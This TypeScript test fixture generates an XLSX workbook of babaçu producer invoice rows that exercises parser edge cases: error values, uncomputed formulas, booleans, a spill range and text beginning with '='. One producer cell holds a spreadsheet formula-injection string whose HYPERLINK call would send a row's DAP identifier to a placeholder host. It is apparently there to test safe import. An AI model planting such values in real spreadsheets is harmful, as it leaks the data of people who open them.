import { BABACU, bold, date, money } from './cells';
import { ana, bento, jose, maria, raimunda, type Person } from './people';
import { OFFICE, row, styled, STYLE, writeXlsx, type Content } from './writeXlsx';

/** Errors kept in cells, formulas without a result or still waiting for it, logicals, a spill, texts that begin with =. */
export function errorsAndFormulas(): Uint8Array {
  const header = ['Produtor', 'DAP/CAF', 'Nº NF', 'Produto', 'UF', 'Data NF', 'Qtde (kg)', 'Preço (R$/kg)', 'PMD'];
  const line = (
    at: number,
    { name, dap }: Person,
    quantity: Content,
    {
      producer = name,
      product = BABACU,
      price = money(3.82),
      market = money(4.5),
    }: Partial<Record<string, Content>> = {},
  ): Record<string, Content> =>
    row(`A${at}`, [producer, dap, 400 + at, product, 'MA', date('2023-06-15'), quantity, price, market]);
  return writeXlsx({
    sheets: [
      {
        name: 'Notas',
        cells: {
          ...row('A1', header.map(bold)),
          ...line(2, raimunda, { formula: '50*2', value: 100 }),
          ...line(3, jose, { formula: 'VLOOKUP("x",K:K,1,FALSE)', error: '#N/A' }),
          ...line(4, ana, { error: '#N/A' }),
          ...line(5, bento, 100, { product: '#N/D' }),
          ...line(6, maria, 100, { price: true }),
          ...line(7, raimunda, { formula: 'IF(TRUE,"",1)', value: '' }),
          ...line(8, jose, 100, {
            producer: styled('=HYPERLINK("http://exemplo.invalid/?c="&B8;"José")', 'quoted'),
          }),
          ...line(9, ana, styled('=1500', 'quoted')),
          ...line(10, bento, 100, { market: { formula: '9/0', error: '#DIV/0!' } }),
          K1: bold('Lista'),
          K2: {
            formula: '_xlfn.UNIQUE(E2:E10)',
            formulaAttributes: ' t="array" ref="K2:K3"',
            value: 'MA',
            attributes: ' cm="1"',
          },
          K3: 'MA',
        },
      },
      {
        name: 'Em cálculo',
        cells: {
          ...row('A1', header.map(bold)),
          ...line(2, raimunda, 100),
          ...line(3, jose, { formula: '_xldudf_BR_KG(A3)', error: '#BUSY!' }),
        },
      },
      {
        name: 'Sem resultado',
        cells: {
          ...row('A1', header.map(bold)),
          ...line(2, maria, { formula: '50+50', style: STYLE.kilograms }),
        },
      },
    ],
    workbookLinks: `<Relationship Id="rIdM" Type="${OFFICE}/sheetMetadata" Target="metadata.xml"/>`,
    parts: {
      'xl/metadata.xml':
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' +
        '<metadata xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:xda="http://schemas.microsoft.com/office/spreadsheetml/2017/dynamicarray">' +
        '<metadataTypes count="1"><metadataType name="XLDAPR" minSupportedVersion="120000" copy="1" pasteAll="1" pasteValues="1" merge="1" splitFirst="1" rowColShift="1" clearFormats="1" clearComments="1" assign="1" coerce="1" cellMeta="1"/></metadataTypes>' +
        '<futureMetadata name="XLDAPR" count="1"><bk><extLst><ext uri="{bdbb8cdc-fa1e-496e-a857-3c3f30c029c3}"><xda:dynamicArrayProperties fDynamic="1" fCollapsed="0"/></ext></extLst></bk></futureMetadata>' +
        '<cellMetadata count="1"><bk><rc t="1" v="0"/></bk></cellMetadata></metadata>',
    },
    overrides:
      '<Override PartName="/xl/metadata.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheetMetadata+xml"/>',
  });
}
